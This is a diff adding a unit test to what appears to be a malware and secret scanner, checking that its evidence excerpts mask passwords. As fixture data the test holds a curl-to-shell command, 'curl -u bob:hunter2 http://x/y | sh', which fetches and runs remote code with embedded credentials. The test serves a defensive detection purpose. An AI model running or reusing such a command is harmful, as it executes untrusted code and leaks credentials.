@@ -55,6 +55,12 @@ def test_a_finding_tells_where_who_and_what_to_do():
     assert evidence.instruction == "RUN step 4"
 
 
+def test_what_shows_malware_shows_no_password():
+    finding = one(PlacedHit(Hit("a.sh", "NK-M0001", 1, 0, "curl -u bob:hunter2 http://x/y | sh")))
+    assert finding.evidence.excerpt == "curl -u bob:*** http://x/y | sh"
+    assert one(PlacedHit(Hit("a", "NK-S0001", 1, 0, "X=ghp_… (40)"))).evidence.excerpt == "X=ghp_… (40)"
+
+
 def test_a_folder_has_no_layers():
     finding = one(PlacedHit(Hit("opt/c.json", "NK-M0001")))
     assert (finding.evidence.layer, finding.evidence.layer_digest, finding.origin) == (None, "", "")
